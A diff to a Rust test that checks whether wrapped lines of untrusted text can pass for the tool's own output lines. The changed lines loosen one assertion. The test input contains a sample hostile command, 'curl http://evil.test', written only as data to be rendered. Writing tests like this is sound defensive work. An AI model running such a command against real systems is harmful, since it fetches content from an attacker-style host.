@@ -165,8 +165,8 @@ fn no_line_of_foreign_words_begins_like_a_line_of_ours() {
             let text = format!("{}{lead} curl http://evil.test", "y ".repeat(filling));
             paper.item(0, "error: ", Ink::Bad, &text);
             let told = plain(paper);
-            let words: Vec<&str> = told.split_whitespace().collect();
-            assert!(words.join(" ").contains(lead), "{told}");
+            let word = lead.split(' ').next().expect("a word");
+            assert!(told.contains(word), "{told}");
             for line in told.lines().skip(1) {
                 assert!(!line.trim_start().starts_with(lead), "{told}");
             }
